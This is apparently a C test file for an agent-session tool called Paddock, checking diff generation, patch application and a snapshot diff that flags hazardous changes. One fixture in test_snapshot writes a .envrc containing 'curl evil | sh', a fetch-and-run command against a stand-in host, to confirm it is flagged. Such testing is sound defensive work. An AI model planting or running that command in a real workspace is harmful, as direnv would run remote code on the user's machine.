/* test-diff.c: the diffs shown at the end of an agent's session, applied
 * back by GNU patch and by Paddock's own apply_patch
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "paddock-diff.h"
#include "paddock-patch.h"
#include "paddock-snapshot.h"

#include "test-util.h"

static char *
diff_of (const char *path,
         const char *old,
         const char *new)
{
  g_autoptr(GBytes) before = old ? g_bytes_new (old, strlen (old)) : NULL;
  g_autoptr(GBytes) after = new ? g_bytes_new (new, strlen (new)) : NULL;
  GString *out = g_string_new (NULL);

  paddock_diff_append (out, path, before, after);
  return g_string_free (out, FALSE);
}

/* GNU patch, run on a copy of @old: what it makes of @diff. */
static char *
gnu_patch (const char *dir,
           const char *old,
           const char *diff)
{
  g_autofree char *file = g_build_filename (dir, "f.txt", NULL);
  g_autofree char *diff_file = g_build_filename (dir, "f.diff", NULL);
  g_autofree char *out = NULL, *err = NULL;
  g_autoptr(GError) error = NULL;
  char *result = NULL;
  const char *argv[] = { "patch", "--quiet", "--force", "--no-backup-if-mismatch", "-p1", "-i", diff_file, NULL };
  int status;

  g_assert_true (g_file_set_contents (file, old, -1, NULL));
  g_assert_true (g_file_set_contents (diff_file, diff, -1, NULL));
  g_assert_true (g_spawn_sync (dir, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err, &status, &error));
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("patch refused:\n%s\n%s%s", diff, out, err);
  g_assert_true (g_file_get_contents (file, &result, NULL, NULL));
  return result;
}

static char *
own_patch (const char *old,
           const char *diff)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) files = paddock_patch_parse (diff, &error);
  g_autoptr(GBytes) before = g_bytes_new (old, strlen (old));
  g_autoptr(GBytes) after = NULL;
  gsize length;
  const char *data;

  g_assert_no_error (error);
  g_assert_cmpuint (files->len, ==, 1);
  after = paddock_patch_apply_file (g_ptr_array_index (files, 0), before, &error);
  g_assert_no_error (error);
  data = g_bytes_get_data (after, &length);
  return g_strndup (data ? data : "", length);
}

static char *
random_text (GRand *rand,
             guint  lines)
{
  GString *text = g_string_new (NULL);

  /* Few distinct lines: many ways to align them, which is where a diff
   * goes wrong. */
  for (guint i = 0; i < lines; i++)
    g_string_append_printf (text, "line %d\n", g_rand_int_range (rand, 0, 6));
  return g_string_free (text, FALSE);
}

static char *
random_edit (GRand      *rand,
             const char *text)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);
  GString *out = g_string_new (NULL);

  for (guint i = 0; lines[i] != NULL && lines[i + 1] != NULL; i++)
    {
      int roll = g_rand_int_range (rand, 0, 10);

      if (roll == 0)
        continue;  /* removed */
      if (roll == 1)
        g_string_append_printf (out, "new %d\n", g_rand_int_range (rand, 0, 3));
      g_string_append_printf (out, "%s\n", roll == 2 ? "changed" : lines[i]);
    }
  if (g_rand_boolean (rand))
    g_string_append (out, "tail\n");
  return g_string_free (out, FALSE);
}

/* Random files and random edits: every diff applies, by both, to give
 * exactly the new file. */
static void
test_round_trip (void)
{
  g_autofree char *dir = test_make_dir ("diff");
  g_autoptr(GRand) rand = g_rand_new_with_seed (20261127);

  for (guint round = 0; round < 60; round++)
    {
      g_autofree char *old = random_text (rand, g_rand_int_range (rand, 1, 40));
      g_autofree char *new = random_edit (rand, old);
      g_autofree char *diff = diff_of ("f.txt", old, new);
      g_autofree char *by_gnu = NULL, *by_own = NULL;

      if (g_str_equal (old, new))
        {
          g_assert_cmpstr (diff, ==, "--- a/f.txt\n+++ b/f.txt\n");
          continue;
        }
      by_gnu = gnu_patch (dir, old, diff);
      g_assert_cmpstr (by_gnu, ==, new);
      by_own = own_patch (old, diff);
      g_assert_cmpstr (by_own, ==, new);
    }
}

/* Where there is one way to say it, the hunks are GNU diff's. */
static void
test_like_gnu_diff (void)
{
  g_autofree char *dir = test_make_dir ("diff");
  g_autofree char *a = g_build_filename (dir, "a", NULL);
  g_autofree char *b = g_build_filename (dir, "b", NULL);
  const char *old = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n";
  const char *new = "1\n2\nthree\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n18\n19\n20\n21\n";
  g_autofree char *ours = diff_of ("f", old, new);
  g_autofree char *theirs = NULL;
  const char *argv[] = { "diff", "-u", a, b, NULL };
  int status;

  g_assert_true (g_file_set_contents (a, old, -1, NULL));
  g_assert_true (g_file_set_contents (b, new, -1, NULL));
  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &theirs, NULL, &status,
                               NULL));
  g_assert_nonnull (strstr (theirs, "@@"));
  g_assert_cmpstr (strstr (ours, "@@"), ==, strstr (theirs, "@@"));
}

static void
test_edges (void)
{
  g_autofree char *created = diff_of ("n.txt", NULL, "a\nb\n");
  g_autofree char *removed = diff_of ("n.txt", "a\n", NULL);
  g_autofree char *no_newline = diff_of ("f.txt", "a\nb", "a\nc");
  g_autoptr(GBytes) text = g_bytes_new ("a\n", 2);
  g_autoptr(GBytes) bytes = g_bytes_new ("a\0b", 3);
  g_autoptr(GString) binary = g_string_new (NULL);
  g_autofree char *dir = test_make_dir ("diff");
  g_autofree char *by_gnu = NULL;

  g_assert_cmpstr (created, ==, "--- /dev/null\n+++ b/n.txt\n@@ -0,0 +1,2 @@\n+a\n+b\n");
  g_assert_cmpstr (removed, ==, "--- a/n.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-a\n");
  g_assert_cmpstr (no_newline, ==, "--- a/f.txt\n+++ b/f.txt\n@@ -1,2 +1,2 @@\n a\n-b\n"
                                   "\\ No newline at end of file\n+c\n\\ No newline at end of file\n");
  by_gnu = gnu_patch (dir, "a\nb", no_newline);
  g_assert_cmpstr (by_gnu, ==, "a\nc");
  paddock_diff_append (binary, "n.bin", text, bytes);
  g_assert_cmpstr (binary->str, ==, "Binary file n.bin changed\n");
}

/* The workspace before and after: each change once, the hazard flagged
 * before its own file and not before the other. */
static void
test_snapshot (void)
{
  g_autofree char *dir = test_make_dir ("snapshot");
  g_autoptr(PaddockSnapshot) before = NULL;
  g_autoptr(PaddockSnapshot) after = NULL;
  g_autofree char *diff = NULL;
  g_autofree char *big = g_malloc (2 * 1024 * 1024);
  const char *hazards[] = { "created .envrc (direnv runs it when you enter the folder)", NULL };
  const char *hazard_at, *envrc_at, *main_at;

  g_free (test_write_file (dir, "main.c", "int main (void)\n{\n  return 0;\n}\n"));
  g_free (test_write_file (dir, "gone.txt", "bye\n"));
  memset (big, 'x', 2 * 1024 * 1024 - 1);
  big[2 * 1024 * 1024 - 1] = '\0';
  g_free (test_write_file (dir, "big.txt", big));
  before = paddock_snapshot_take (dir, 100);
  paddock_snapshot_keep_contents (before, 64 * 1024 * 1024);

  g_usleep (10 * 1000);
  g_free (test_write_file (dir, "main.c", "int main (void)\n{\n  return 1;\n}\n"));
  g_free (test_write_file (dir, ".envrc", "curl evil | sh\n"));
  g_free (test_write_file (dir, "big.txt", "small now\n"));
  {
    g_autofree char *gone = g_build_filename (dir, "gone.txt", NULL);
    g_assert_cmpint (g_unlink (gone), ==, 0);
  }
  after = paddock_snapshot_take (dir, 100);
  diff = paddock_snapshot_diff (before, after, hazards);
  g_test_message ("%s", diff);

  hazard_at = strstr (diff, "# Hazard: created .envrc (direnv runs it when you enter the folder)\n--- /dev/null\n"
                            "+++ b/.envrc\n@@ -0,0 +1,1 @@\n+curl evil | sh\n");
  envrc_at = strstr (diff, "+++ b/.envrc");
  main_at = strstr (diff, "--- a/main.c\n+++ b/main.c\n@@ -1,4 +1,4 @@\n int main (void)\n {\n-  return 0;\n"
                          "+  return 1;\n }\n");
  g_assert_nonnull (hazard_at);
  g_assert_nonnull (envrc_at);
  g_assert_nonnull (main_at);
  /* Only one hazard line, before .envrc. */
  g_assert_null (strstr (hazard_at + 1, "# Hazard"));
  g_assert_nonnull (strstr (diff, "--- a/gone.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-bye\n"));
  /* Past the size kept: said, not shown. */
  g_assert_nonnull (strstr (diff, "File big.txt changed (not kept: not a regular file, or too large)\n"));

  test_remove_tree (dir);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/diff/round-trip", test_round_trip);
  g_test_add_func ("/diff/like-gnu-diff", test_like_gnu_diff);
  g_test_add_func ("/diff/edges", test_edges);
  g_test_add_func ("/diff/snapshot", test_snapshot);

  return g_test_run ();
}
